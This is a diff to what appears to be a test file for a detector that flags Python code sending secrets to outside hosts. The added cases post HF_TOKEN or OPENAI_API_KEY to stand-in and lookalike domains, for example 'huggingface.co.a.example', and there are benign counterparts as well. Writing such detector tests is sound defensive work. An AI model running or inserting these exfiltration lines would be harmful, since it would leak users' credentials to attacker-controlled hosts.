@@ -71,6 +71,9 @@ import os, requests~k = os.environ.get("AWS_SECRET_ACCESS_KEY")~d = {"k": k}~req
 import requests~from huggingface_hub import get_token~requests.get("https://a.example", params={"t": get_token()})
 import os, requests~def f(): requests.get("https://a.example", headers={"X": os.environ["HF_TOKEN"]})
 import os, httpx~def f(): httpx.request("POST", "https://a.example", content=os.environ["GITHUB_TOKEN"])
+import os, requests~requests.get("https://huggingface.co.a.example/x", params={"t": os.environ["HF_TOKEN"]})
+import os, requests~requests.get("https://my-huggingface.com/x", params={"t": os.environ["HF_TOKEN"]})
+import os, requests~requests.post("https://openai.a.example/x", json={"t": os.environ["OPENAI_API_KEY"]})
 import os~from huggingface_hub import HfApi~HfApi().upload_file(path_or_fileobj=os.environ["AWS_SECRET"].encode())
 """.strip().splitlines()  # noqa: E501
 SLY = r"""
@@ -157,6 +160,8 @@ CLEAN = {
     "  t = os.environ['HF_TOKEN']\n  h = {'Authorization': f'Bearer {t}'}\n"
     "  requests.get('https://huggingface.co/api', headers=h)\n"
     "  requests.post('https://api.openai.com/v1', params={'k': os.environ['OPENAI_API_KEY']})\n"
+    "  requests.get('https://maps.googleapis.com/a', params={'k': os.environ['GOOGLE_API_KEY']})\n"
+    "  requests.get('https://api.acme.co.uk:443/a', params={'k': os.environ['ACME_KEY']})\n"
     "  requests.post('http://localhost:80/x', json={'t': t})\n"
     "  requests.get(f'{q}/x', headers=h)\n",
     "plain editors": "import os\nos.environ['PAGER'] = 'cat'\n"
